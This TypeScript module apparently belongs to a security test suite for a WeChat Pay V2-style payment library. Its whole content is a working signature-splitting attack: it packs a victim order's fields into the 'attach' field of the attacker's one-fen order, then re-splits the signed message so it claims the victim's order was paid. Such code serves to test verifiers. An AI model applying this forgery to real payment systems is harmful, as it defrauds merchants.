import type { V2Fields } from '../../v2/xml.js';
import { definedFields, type MaybeFields, type MessageChanges } from './message.js';

/** Order numbers of the attacker's own order, used in the signed message. */
const ATTACKER_ORDER = { out_trade_no: 'ATTACKER-1', transaction_id: '4200009999202601010000000001' };
/** Field name that sorts last, so that it absorbs the rest of the message. */
const REST_FIELD = 'zz';

/**
 * Splits a signed message about an attacker's order, whose `attach` contains fields, in another way: it then says that the
 * requested order was paid with one fen. The signature is valid for both, because it does not cover field boundaries.
 */
export const RECUT: MessageChanges = {
  onFields: (fields) => (fields.out_trade_no === undefined ? fields : attackerMessage(fields)),
  onSigned: (fields) => (fields.attach?.includes(`&${REST_FIELD}=`) ? splitAnew(fields) : fields),
};

/** Returns the attacker's payment of one fen, with the fields of the requested order in its `attach`. */
function attackerMessage({
  appid,
  mch_id,
  sub_mch_id,
  nonce_str,
  out_trade_no,
  transaction_id,
}: V2Fields): V2Fields {
  const payment = {
    mch_id,
    nonce_str,
    out_trade_no,
    result_code: 'SUCCESS',
    return_code: 'SUCCESS',
    sub_mch_id,
    time_end: '20260101000000',
    total_fee: '1',
    trade_state: 'SUCCESS',
    trade_type: 'NATIVE',
    transaction_id: transaction_id ?? ATTACKER_ORDER.transaction_id,
  };
  const attach = ['x', ...sortedPairs(payment), `${REST_FIELD}=`].join('&');
  return definedFields({ ...payment, ...ATTACKER_ORDER, appid, attach });
}

/** Splits the message in the way that the attacker prepared. */
function splitAnew({ appid, attach = '', sign, ...others }: V2Fields): V2Fields {
  const [text = '', ...parts] = attach.split('&');
  const forged = Object.fromEntries(parts.map((part) => part.split('=', 2)));
  const rest = sortedPairs(others).map((part) => `&${part}`);
  return definedFields({ appid, attach: text, ...forged, [REST_FIELD]: rest.join(''), sign });
}

/** Returns the fields as `name=value`, in signing order. */
function sortedPairs(fields: MaybeFields): readonly string[] {
  return Object.entries(definedFields(fields))
    .toSorted(([a], [b]) => (a < b ? -1 : 1))
    .map(([name, value]) => `${name}=${value}`);
}
